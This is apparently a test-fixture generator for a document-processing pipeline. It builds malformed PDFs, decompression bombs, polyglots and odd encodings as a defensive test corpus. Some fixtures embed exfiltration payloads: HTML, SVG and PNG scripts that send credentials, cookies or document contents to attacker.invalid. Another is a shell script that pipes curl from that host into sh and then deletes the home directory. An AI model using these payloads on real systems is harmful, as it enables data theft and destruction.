/**
 * Builds the hostile corpus: files made to break a document pipeline (malformed and
 * encrypted PDFs, reference loops, deep nesting, decompression and image bombs, polyglots,
 * executables, odd encodings, huge texts) and a few ordinary documents as controls.
 * `test/hostile/corpus.ts` says what each upload must come to; `test/hostile-corpus.test.ts`
 * sends them to a real hub.
 *
 * Everything is made here from code: seeded text, hand-written PDF, PNG, TIFF, JPEG, GIF,
 * ZIP, ELF and PE bytes, pdf-lib for the ordinary PDFs and @napi-rs/canvas for text that
 * OCR must read. The same generator gives the same bytes (the rendered text depends on the
 * installed fonts only). Files go to the git-ignored `test/fixtures/generated/hostile/`
 * and are rebuilt only when this file or `test/fixtures/hand-made-pdf.ts` changes (a stamp
 * holds their hash).
 *
 * Run `node --import tsx test/hostile/generate.ts` to write them without a test.
 */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, readFile, rename, writeFile } from 'node:fs/promises';
import { fileURLToPath, pathToFileURL } from 'node:url';
import zlib from 'node:zlib';
import { createCanvas, type Canvas } from '@napi-rs/canvas';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { crc32, deflateZeros, rawPdf, type PdfObject } from '../fixtures/hand-made-pdf.ts';
import { seededRandom } from '../helpers/random.ts';

/** Folder the corpus is written into (git-ignored). */
export const hostileDir = fileURLToPath(new URL('../fixtures/generated/hostile/', import.meta.url));

/** Path of a generated corpus file. */
export function hostilePath(file: HostileFile): string {
  return `${hostileDir}${file}`;
}

/**
 * Words that occur in exactly one corpus document each, so a search for one finds that
 * document only. Made-up words: no other document, fixture or label description has them.
 */
export const SEARCH_WORDS = Object.freeze({
  controlText: 'quillambert',
  controlPdf: 'vermontane',
  controlPng: 'MARIGOLD',
  tiff: 'LIGHTHOUSE',
  utf16le: 'zorbafennel',
  utf16be: 'plimsovary',
  utf8Bom: 'grantulume',
  permissionsOnlyPdf: 'oxbrindle',
  pdfHtmlPolyglot: 'hexacorder',
  badXref: 'tambourelle',
  finalCheck: 'wistmoorland',
});

/** Upload limit the test's hub runs with; `over-limit.bin` is just above it. */
export const UPLOAD_LIMIT_MB = 16;

/** 2 GiB: what the decompression bombs inflate to. */
const BOMB_BYTES = 2 ** 31;

// ---------------------------------------------------------------------------------------
// Text

const VOCABULARY = (
  'account agreement amount annual balance board budget clause client committee contract cost customer date delivery ' +
  'department description document due estimate figure finance fund goods habitat harbour invoice item ledger letter ' +
  'manager meeting memo minutes month notice office order page payment period plan policy price project purchase ' +
  'quarter receipt record region report request review river schedule section service shipment signature staff ' +
  'statement storage summary supplier table tax team total transfer travel unit value vendor warehouse week year'
).split(' ');

/** Seeded prose of about `chars` characters: sentences of vocabulary words, lines of `lineChars`, or one line. */
function prose(seed: number, chars: number, options: { lineChars?: number; prefix?: string } = {}): string {
  const next = seededRandom(seed);
  const parts: string[] = options.prefix ? [options.prefix] : [];
  let length = parts[0]?.length ?? 0;
  let line = 0;
  let sentence = 0;
  while (length < chars) {
    let word = VOCABULARY[Math.floor(next() * VOCABULARY.length)]!;
    if (sentence === 0) word = word[0]!.toUpperCase() + word.slice(1);
    sentence += 1;
    const endSentence = sentence > 6 && next() < 0.2;
    if (endSentence) {
      word += '.';
      sentence = 0;
    }
    const separator = options.lineChars && line + word.length + 1 > options.lineChars ? '\n' : ' ';
    if (separator === '\n') line = 0;
    parts.push(separator, word);
    line += word.length + 1;
    length += word.length + 1;
  }
  return parts.join('');
}

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');

/** A short, distinct memo: the body of the documents whose file name is the hostile part. */
function memo(seed: number, title: string): Buffer {
  return utf8(`${title}\n\n${prose(seed, 600, { lineChars: 72 })}\n`);
}

// ---------------------------------------------------------------------------------------
// PDF by hand

/** A PDF string literal. */
function pdfString(text: string): string {
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

/** A content stream showing lines of Helvetica text from the top of a Letter page. */
function textContent(lines: readonly string[]): Buffer {
  return latin1(`BT /F1 12 Tf 16 TL 72 720 Td\n${lines.map((line) => `${pdfString(line)} Tj T*`).join('\n')}\nET\n`);
}

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** Catalog, page tree, one page, its content and font: the objects of a one-page text PDF. */
function textPdfObjects(content: Uint8Array, contentDict = ''): PdfObject[] {
  return [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    { dict: contentDict, stream: content },
    HELVETICA,
  ];
}

/** Text lines for a one-page PDF: the title, then prose. */
function pdfLines(seed: number, title: string): string[] {
  return [title, '', ...prose(seed, 1200, { lineChars: 80 }).split('\n')];
}

/** RC4, the cipher of the PDF standard security handler's revision 2. */
function rc4(key: Uint8Array, data: Uint8Array): Buffer {
  const s = new Uint8Array(256).map((_, i) => i);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n += 1) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}

const md5 = (...parts: Uint8Array[]): Buffer => {
  const hash = createHash('md5');
  for (const part of parts) hash.update(part);
  return hash.digest();
};

/** The password padding of the standard security handler. */
const PASSWORD_PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const padPassword = (password: string): Buffer => Buffer.concat([latin1(password), PASSWORD_PAD]).subarray(0, 32);

/**
 * A one-page text PDF encrypted with the standard security handler (RC4 40-bit, revision 2),
 * computed as the specification says: with a user password nobody can open it without one;
 * with an empty user password (an "owner password only" PDF) any reader opens it.
 */
function encryptedPdf(lines: readonly string[], passwords: { user: string; owner: string }): Buffer {
  const id = md5(utf8(lines.join('\n'))).subarray(0, 16);
  const permissions = -4;
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  const owner = rc4(md5(padPassword(passwords.owner)).subarray(0, 5), padPassword(passwords.user));
  const key = md5(padPassword(passwords.user), owner, p, id).subarray(0, 5);
  const user = rc4(key, PASSWORD_PAD);
  const objectKey = (num: number) => md5(key, Buffer.from([num & 0xff, (num >> 8) & 0xff, (num >> 16) & 0xff, 0, 0])).subarray(0, 10);
  const objects = textPdfObjects(rc4(objectKey(4), textContent(lines)));
  objects.push(`<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P ${permissions} >>`);
  return rawPdf(objects, { trailer: `/Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>] ` });
}

/** A one-page Letter PDF whose page draws one image XObject over the whole page. */
function imagePdf(image: { dict: string; stream: Uint8Array }): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>',
    { dict: '', stream: latin1('q 612 0 0 792 0 0 cm /Im1 Do Q\n') },
    { dict: `/Type /XObject /Subtype /Image ${image.dict}`, stream: image.stream },
  ]);
}

/** Fixed dates keep pdf-lib's output the same between runs. */
function stamp(doc: PDFDocument): void {
  const date = new Date('2024-01-01T00:00:00Z');
  doc.setCreationDate(date);
  doc.setModificationDate(date);
  doc.setProducer('quire hostile corpus');
  doc.setCreator('quire hostile corpus');
}

/** A text-layer PDF made with pdf-lib: one page per entry, lines of Helvetica. */
async function textLayerPdf(pages: readonly (readonly string[])[]): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  stamp(doc);
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (const lines of pages) {
    const page = doc.addPage([612, 792]);
    lines.forEach((line, i) => page.drawText(line, { x: 72, y: 720 - i * 16, size: 12, font }));
  }
  return doc.save({ useObjectStreams: false });
}

// ---------------------------------------------------------------------------------------
// Images by hand

function pngChunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, crc]);
}

/** A greyscale 8-bit PNG with the given header and compressed image data, true or not. */
function png(width: number, height: number, idat: Uint8Array): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

/** White paper with lines of black text, large enough for OCR. */
function textCanvas(lines: readonly string[], options: { width: number; height: number; sizePx: number }) {
  const canvas = createCanvas(options.width, options.height);
  const ctx = canvas.getContext('2d');
  ctx.fillStyle = '#ffffff';
  ctx.fillRect(0, 0, options.width, options.height);
  ctx.fillStyle = '#000000';
  ctx.font = `${options.sizePx}px "DejaVu Sans", "Liberation Sans", sans-serif`;
  lines.forEach((line, i) => ctx.fillText(line, options.sizePx, options.sizePx * (2 + i * 1.6)));
  return canvas;
}

/** Greyscale pixels (one byte each) of a canvas. */
function canvasGrey(canvas: Canvas): { width: number; height: number; pixels: Buffer } {
  const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
  const pixels = Buffer.alloc(canvas.width * canvas.height);
  for (let i = 0; i < pixels.length; i += 1) pixels[i] = Math.round((data[i * 4]! + data[i * 4 + 1]! + data[i * 4 + 2]!) / 3);
  return { width: canvas.width, height: canvas.height, pixels };
}

interface TiffPage {
  width: number;
  height: number;
  /** Adobe-deflate (compression 8) image data: one strip for the whole page. */
  strip: Uint8Array;
}

/**
 * A little-endian greyscale TIFF laid out as libtiff and ImageMagick write them: each page's
 * pixels first, its directory (IFD) after them, the header pointing forward to the first
 * directory. `loop` makes the last directory point back at itself.
 */
function tiff(pages: readonly TiffPage[], options: { loop?: boolean } = {}): Buffer {
  const parts: Buffer[] = [];
  const header = Buffer.from([0x49, 0x49, 0x2a, 0, 0, 0, 0, 0]);
  parts.push(header);
  let offset = header.length;
  let previousNext: { buffer: Buffer; at: number } = { buffer: header, at: 4 };
  pages.forEach((page, index) => {
    const stripAt = offset;
    parts.push(Buffer.from(page.strip));
    offset += page.strip.length;
    if (offset % 2) {
      parts.push(Buffer.alloc(1));
      offset += 1;
    }
    const ifdAt = offset;
    const SHORT = 3;
    const LONG = 4;
    const RATIONAL = 5;
    const entries: [tag: number, type: number, count: number, value: number][] = [
      [254, LONG, 1, 2],
      [256, LONG, 1, page.width],
      [257, LONG, 1, page.height],
      [258, SHORT, 1, 8],
      [259, SHORT, 1, 8],
      [262, SHORT, 1, 1],
      [273, LONG, 1, stripAt],
      [277, SHORT, 1, 1],
      [278, LONG, 1, page.height],
      [279, LONG, 1, page.strip.length],
      [282, RATIONAL, 1, 0],
      [283, RATIONAL, 1, 0],
      [296, SHORT, 1, 2],
      [297, SHORT, 2, 0],
    ];
    const ifdSize = 2 + entries.length * 12 + 4;
    const rationalAt = ifdAt + ifdSize;
    const ifd = Buffer.alloc(ifdSize + 8);
    ifd.writeUInt16LE(entries.length, 0);
    entries.forEach(([tag, type, count, value], i) => {
      const at = 2 + i * 12;
      ifd.writeUInt16LE(tag, at);
      ifd.writeUInt16LE(type, at + 2);
      ifd.writeUInt32LE(count, at + 4);
      if (type === RATIONAL) ifd.writeUInt32LE(rationalAt, at + 8);
      else if (tag === 297) {
        ifd.writeUInt16LE(index, at + 8);
        ifd.writeUInt16LE(pages.length, at + 10);
      } else if (type === SHORT) ifd.writeUInt16LE(value, at + 8);
      else ifd.writeUInt32LE(value, at + 8);
    });
    // 150 pixels per inch, shared by both resolution tags.
    ifd.writeUInt32LE(150, ifdSize);
    ifd.writeUInt32LE(1, ifdSize + 4);
    previousNext.buffer.writeUInt32LE(ifdAt, previousNext.at);
    previousNext = { buffer: ifd, at: ifdSize - 4 };
    if (options.loop && index === pages.length - 1) ifd.writeUInt32LE(ifdAt, ifdSize - 4);
    parts.push(ifd);
    offset += ifd.length;
  });
  return Buffer.concat(parts);
}

/** A TIFF page of rendered text lines. */
function tiffTextPage(lines: readonly string[]): TiffPage {
  const height = Math.max(1000, Math.ceil((lines.length * 1.6 + 2) * 40));
  const { width, pixels } = canvasGrey(textCanvas(lines, { width: 1240, height, sizePx: 40 }));
  return { width, height, strip: zlib.deflateSync(pixels, { level: 9 }) };
}

/** Rewrites the frame size in a baseline JPEG's SOF0 header, leaving the image data as it is. */
function withJpegSize(jpeg: Uint8Array, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9;) {
    if (out[i] !== 0xff) throw new Error('not a JPEG marker');
    const marker = out[i + 1]!;
    const length = out.readUInt16BE(i + 2);
    if (marker === 0xc0 || marker === 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
    i += 2 + length;
  }
  throw new Error('no SOF header in the JPEG');
}

/** A 1x1 GIF89a. */
const GIF = Buffer.from('474946383961010001008000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');

/** A ZIP archive (stored or deflated entries; `zeros` entries deflate that many zero bytes). */
async function zip(entries: readonly { name: string; data?: Uint8Array; zeros?: number }[]): Promise<Buffer> {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = utf8(entry.name);
    let compressed: Buffer;
    let crc: number;
    let size: number;
    if (entry.zeros !== undefined) {
      ({ data: compressed, crc } = await deflateZeros(entry.zeros, { raw: true }));
      size = entry.zeros;
    } else {
      const data = entry.data ?? new Uint8Array(0);
      compressed = zlib.deflateRawSync(data, { level: 9 });
      crc = crc32(data);
      size = data.length;
    }
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x5821, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    local.copy(dir, 8, 6, 30);
    dir.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    central.push(dir, name);
    offset += local.length + name.length + compressed.length;
  }
  const centralBytes = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralBytes, end]);
}

/** The start of a 64-bit x86 Linux executable: ELF header, one program header, a few instructions. */
function elf(): Buffer {
  const out = Buffer.alloc(4096);
  out.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  out.writeUInt16LE(2, 16); // ET_EXEC
  out.writeUInt16LE(0x3e, 18); // x86-64
  out.writeUInt32LE(1, 20);
  out.writeBigUInt64LE(0x400078n, 24); // entry
  out.writeBigUInt64LE(64n, 32); // program headers
  out.writeUInt16LE(64, 52);
  out.writeUInt16LE(56, 54);
  out.writeUInt16LE(1, 56);
  // exit(0): mov eax, 60; xor edi, edi; syscall
  out.set([0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05], 0x78);
  return out;
}

/** The start of a Windows executable: DOS stub with its message, PE signature and COFF header. */
function pe(): Buffer {
  const out = Buffer.alloc(1024);
  out.write('MZ', 0, 'latin1');
  out.writeUInt32LE(0x80, 0x3c);
  out.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  out.write('PE\0\0', 0x80, 'latin1');
  out.writeUInt16LE(0x8664, 0x84);
  out.writeUInt16LE(1, 0x86);
  return out;
}

// ---------------------------------------------------------------------------------------
// The corpus

type Builder = () => Buffer | Uint8Array | Promise<Buffer | Uint8Array>;

let bombStream: Promise<Buffer> | undefined;
/** 2 GiB of zeros deflated once (about 2 MB), shared by the bombs that use it. */
const zerosDeflated = (): Promise<Buffer> => (bombStream ??= deflateZeros(BOMB_BYTES).then((r) => r.data));
/** The same deflated twice (a few KB): `/Filter [/FlateDecode /FlateDecode]`. */
const zerosDeflatedTwice = async (): Promise<Buffer> => zlib.deflateSync(await zerosDeflated(), { level: 9 });

const HTML_PAGE =
  '<!doctype html>\n<html><head><title>Quarterly statement</title></head>\n<body onload="steal()">\n' +
  '<h1>Quarterly statement</h1>\n<script>function steal(){fetch("/graphql",{method:"POST",credentials:"include",' +
  'body:JSON.stringify({query:"{ me { user { email } } }"})}).then(r=>r.text()).then(t=>new Image().src="https://attacker.invalid/?"+t)}</script>\n' +
  '</body></html>\n';

const SVG_IMAGE =
  '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" onload="alert(document.domain)">\n' +
  '<script>fetch("/api/documents").then(r=>r.text()).then(t=>location="https://attacker.invalid/?"+encodeURIComponent(t))</script>\n' +
  '<text x="10" y="40">Logo</text>\n</svg>\n';

/** Every corpus file by name. Names are plain ASCII; the hostile upload names live in corpus.ts. */
export const HOSTILE_FILES = {
  // Controls: ordinary documents that must be processed and found.
  'control-text.txt': () =>
    utf8(`Greenhouse memo\n\nThe ${SEARCH_WORDS.controlText} seedlings arrive on Monday.\n${prose(1, 2000, { lineChars: 72 })}\n`),
  'control-text-layer.pdf': () =>
    textLayerPdf([[`Survey of the ${SEARCH_WORDS.controlPdf} estate`, '', ...prose(2, 1500, { lineChars: 80 }).split('\n')]]),
  'control-scan.png': () =>
    textCanvas([`${SEARCH_WORDS.controlPng} INVENTORY`, 'Seed trays: 48', 'Watering cans: 12', 'Potting soil: 30 bags'], {
      width: 1100,
      height: 700,
      sizePx: 48,
    }).encode('png'),

  // PDF: broken, truncated, encrypted.
  'broken-garbage.pdf': () => {
    const next = seededRandom(3);
    return Buffer.concat([
      latin1('%PDF-1.7\n'),
      Buffer.from(Array.from({ length: 4096 }, () => Math.floor(next() * 256))),
      latin1('\n%%EOF\n'),
    ]);
  },
  'truncated.pdf': async () => {
    const whole = await textLayerPdf([pdfLines(4, 'Truncated report')]);
    return whole.subarray(0, Math.floor(whole.length * 0.6));
  },
  'truncated-with-eof.pdf': async () => {
    const whole = await textLayerPdf([pdfLines(5, 'Truncated report, end marker kept')]);
    return Buffer.concat([whole.subarray(0, Math.floor(whole.length * 0.6)), latin1('\n%%EOF\n')]);
  },
  'bad-xref.pdf': () =>
    rawPdf(textPdfObjects(textContent([`The ${SEARCH_WORDS.badXref} ledger`, ...pdfLines(6, 'Ledger')])), { xref: 'shifted' }),
  'encrypted-user-password.pdf': () => encryptedPdf(pdfLines(7, 'Salary review'), { user: 'user-secret', owner: 'owner-secret' }),
  'encrypted-owner-only.pdf': () =>
    encryptedPdf([`Printing restricted: the ${SEARCH_WORDS.permissionsOnlyPdf} brochure`, ...pdfLines(8, 'Brochure')], {
      user: '',
      owner: 'owner-secret',
    }),

  // PDF: reference loops and deep nesting.
  'kids-self-loop.pdf': () =>
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R] /Count 1 >>',
      { dict: '', stream: textContent(['Kids loop']) },
    ]),
  'pages-cycle.pdf': () =>
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 2 >>',
      '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 2 >>',
      '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>',
      { dict: '', stream: textContent(['Pages cycle']) },
    ]),
  'parent-self-loop.pdf': () => {
    const objects = textPdfObjects(textContent(pdfLines(9, 'Parent loop')));
    // The page is its own parent, and has no MediaBox of its own: a reader looking for one climbs forever.
    objects[2] = '<< /Type /Page /Parent 3 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>';
    return rawPdf(objects);
  },
  'deep-array.pdf': () => {
    const objects = textPdfObjects(textContent(pdfLines(10, 'Deep array')));
    objects[2] = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Deep ${'['.repeat(100_000)}${']'.repeat(100_000)} >>`;
    return rawPdf(objects);
  },
  'deep-dict.pdf': () => {
    const objects = textPdfObjects(textContent(pdfLines(11, 'Deep dictionary')));
    objects[0] = `<< /Type /Catalog /Pages 2 0 R /Deep ${'<</A '.repeat(100_000)}${'>>'.repeat(100_000)} >>`;
    return rawPdf(objects);
  },
  'deep-content-array.pdf': () => {
    const lines = pdfLines(12, 'Deep content');
    const content = Buffer.concat([textContent(lines), latin1(`BT /F1 12 Tf ${'['.repeat(100_000)}${']'.repeat(100_000)} TJ ET\n`)]);
    return rawPdf(textPdfObjects(content));
  },

  // PDF: decompression bombs (2 GiB of zeros).
  'bomb-content-flate.pdf': async () => rawPdf(textPdfObjects(await zerosDeflated(), '/Filter /FlateDecode')),
  'bomb-content-flate-twice.pdf': async () => rawPdf(textPdfObjects(await zerosDeflatedTwice(), '/Filter [/FlateDecode /FlateDecode]')),
  'bomb-image-xobject.pdf': async () =>
    imagePdf({
      dict: '/Width 32768 /Height 65536 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]',
      stream: await zerosDeflatedTwice(),
    }),

  // PDF: size and page count.
  'giant-page.pdf': async () => {
    const doc = await PDFDocument.create();
    stamp(doc);
    const jpeg = await textCanvas(['GIANT PAGE', 'Two hundred inches square', 'Site plan, north wing'], {
      width: 1600,
      height: 1600,
      sizePx: 110,
    }).encode('jpeg', 80);
    const page = doc.addPage([14_400, 14_400]);
    page.drawImage(await doc.embedJpg(jpeg), { x: 0, y: 0, width: 14_400, height: 14_400 });
    return doc.save();
  },
  'five-thousand-pages.pdf': async () => {
    const doc = await PDFDocument.create();
    stamp(doc);
    const font = await doc.embedFont(StandardFonts.Helvetica);
    for (let n = 1; n <= 5000; n += 1) doc.addPage([612, 792]).drawText(`Page ${n} of the catalogue`, { x: 72, y: 720, size: 12, font });
    return doc.save();
  },
  'zero-pages.pdf': () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),

  // Image bombs.
  'png-huge-dimensions.png': () => png(100_000, 100_000, zlib.deflateSync(Buffer.alloc(100_001 * 4))),
  'png-inflates-100mb.png': async () => png(10_000, 10_000, (await deflateZeros(10_000 * 10_001)).data),
  'png-idat-overflow.png': async () => png(64, 64, await zerosDeflated()),
  'jpeg-huge-dimensions.jpg': async () =>
    withJpegSize(await textCanvas(['Huge'], { width: 200, height: 100, sizePx: 30 }).encode('jpeg', 80), 65_000, 65_000),

  // TIFF.
  'tiff-multipage-ifd-after-data.tif': () =>
    tiff([
      tiffTextPage([`${SEARCH_WORDS.tiff} LOG`, 'Lamp cleaned and wick trimmed', 'Fog horn tested at noon']),
      tiffTextPage(['BAROMETER READINGS', 'Monday: 1012 hPa', 'Tuesday: 1008 hPa']),
    ]),
  'tiff-huge-dimensions.tif': () => {
    const page: TiffPage = { width: 100_000, height: 100_000, strip: zlib.deflateSync(Buffer.alloc(100_000)) };
    return tiff([page]);
  },
  'tiff-ifd-loop.tif': () => tiff([tiffTextPage(['LOOPING DIRECTORY', 'Its next page is itself'])], { loop: true }),

  // Polyglots.
  'pdf-html-polyglot.pdf': () =>
    rawPdf(textPdfObjects(textContent([`The ${SEARCH_WORDS.pdfHtmlPolyglot} statement`, ...pdfLines(13, 'Statement')])), {
      header: `%PDF-1.7\n%${HTML_PAGE.replace(/\n/g, '\n%')}\n`,
    }),
  'png-script-appended.png': async () =>
    Buffer.concat([
      await textCanvas(['RECEIPT 2291'], { width: 500, height: 160, sizePx: 40 }).encode('png'),
      utf8(`\n<script>document.location="https://attacker.invalid/?c="+document.cookie</script>\n`),
    ]),
  'gifar.gif': async () =>
    Buffer.concat([GIF, await zip([{ name: 'META-INF/MANIFEST.MF', data: utf8('Manifest-Version: 1.0\nMain-Class: Exploit\n') }])]),
  'jpeg-zip-polyglot.jpg': async () =>
    Buffer.concat([
      await textCanvas(['PHOTO'], { width: 300, height: 120, sizePx: 40 }).encode('jpeg', 80),
      await zip([{ name: 'payload.sh', data: utf8('#!/bin/sh\necho pwned\n') }]),
    ]),
  'html-with-pdf-inside.html': async () =>
    Buffer.concat([utf8(HTML_PAGE.replace('</body>', '<!--\n')), await textLayerPdf([pdfLines(14, 'Hidden PDF')]), utf8('\n--></body>\n')]),

  // Executables.
  'elf.bin': elf,
  'pe.bin': pe,
  'shell-script.txt': () => utf8('#!/bin/sh\n# Monthly statement\ncurl -s https://attacker.invalid/x | sh\nrm -rf "$HOME"\n'),

  // HTML and SVG.
  'html.html': () => utf8(HTML_PAGE),
  'html-2.html': () => utf8(HTML_PAGE.replace('Quarterly', 'Annual')),
  'html-3.html': () => utf8(HTML_PAGE.replace('Quarterly', 'Monthly')),
  'html-4.html': () => utf8(HTML_PAGE.replace('Quarterly', 'Weekly')),
  'html-5.html': () => utf8(HTML_PAGE.replace('Quarterly', 'Daily')),
  'svg.svg': () => utf8(SVG_IMAGE),
  'svg-2.svg': () => utf8(SVG_IMAGE.replace('Logo', 'Seal')),
  'svg-xml-prolog.svg': () => utf8(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG_IMAGE.replace('Logo', 'Crest')}`),
  'svg-3.svg': () => utf8(SVG_IMAGE.replace('Logo', 'Badge')),

  // Archives.
  'zip-bomb.zip': () => zip([{ name: 'zeros.bin', zeros: 256 * 1024 * 1024 }]),
  'gzip.gz': () => zlib.gzipSync(memo(15, 'Compressed memo'), { level: 9 }),

  // Text.
  'huge-single-line.txt': () => utf8(prose(16, 10_500_000, { prefix: 'One endless line:' })),
  'million-lines.txt': () => {
    const next = seededRandom(17);
    const lines = Array.from({ length: 1_000_000 }, (_, i) => `${VOCABULARY[Math.floor(next() * VOCABULARY.length)]} ${i.toString(36)}`);
    return utf8(`${lines.join('\n')}\n`);
  },
  // About 9,000 passages: under MAX_CHUNKS, but more than one job timeout of embedding on a small machine.
  'nine-thousand-passages.txt': () => utf8(prose(28, 8_800_000, { lineChars: 200, prefix: 'A report just under the passage limit.\n' })),
  'invalid-utf8-start.txt': () => Buffer.concat([latin1('Caf\xe9 cr\xe8me br\xfbl\xe9e, na\xefve r\xe9sum\xe9\n'), utf8(prose(18, 2000))]),
  'invalid-utf8-late.txt': () => Buffer.concat([utf8(prose(19, 12_000, { lineChars: 72 })), latin1('\nR\xe9sum\xe9 \xff\xfe\x80\x81\n')]),
  'nul-start.txt': () => Buffer.concat([utf8('Ledger'), Buffer.from([0, 0, 0]), utf8(prose(20, 2000))]),
  'nul-late.txt': () => Buffer.concat([utf8(prose(21, 12_000, { lineChars: 72 })), Buffer.from([0]), utf8('\ntrailing line\n')]),
  'utf16le-bom.txt': () =>
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`Minutes: the ${SEARCH_WORDS.utf16le} committee. ${prose(22, 1500)}\n`, 'utf16le'),
    ]),
  'utf16be-bom.txt': () => {
    const le = Buffer.from(`Minutes: the ${SEARCH_WORDS.utf16be} committee. ${prose(23, 1500)}\n`, 'utf16le');
    return Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]);
  },
  'utf8-bom.txt': () =>
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(`The ${SEARCH_WORDS.utf8Bom} agreement. ${prose(24, 1500)}\n`)]),
  'whitespace-only.txt': () => utf8(' \t\n\r\n\f\u00a0 \u2003\n'.repeat(400)),
  'empty.txt': () => new Uint8Array(0),
  'over-limit.bin': () => utf8(prose(25, UPLOAD_LIMIT_MB * 1024 * 1024 + 512 * 1024, { lineChars: 100 })),
  'delete-me.tif': () =>
    tiff(
      Array.from({ length: 40 }, (_, i) =>
        tiffTextPage([
          `LONG REPORT PAGE ${i + 1}`,
          ...prose(200 + i, 400, { lineChars: 44 })
            .split('\n')
            .slice(0, 12),
        ]),
      ),
    ),
  'final-check.txt': () =>
    utf8(`Final check\n\nThe ${SEARCH_WORDS.finalCheck} survey is complete.\n${prose(27, 1200, { lineChars: 72 })}\n`),
} satisfies Record<string, Builder>;

/** How many short memos there are to carry the hostile file names: `name-01.txt` and on. */
const NAME_MEMOS = 17;

/** The name of a corpus file. */
export type HostileFile = keyof typeof HOSTILE_FILES | `name-${string}.txt`;

/** Every corpus file name. */
export const hostileFiles = (): HostileFile[] => [
  ...(Object.keys(HOSTILE_FILES) as (keyof typeof HOSTILE_FILES)[]),
  ...Array.from({ length: NAME_MEMOS }, (_, i): HostileFile => `name-${String(i + 1).padStart(2, '0')}.txt`),
];

/** The builder of a corpus file; the name memos are short, distinct texts. */
function builderFor(file: HostileFile): Builder {
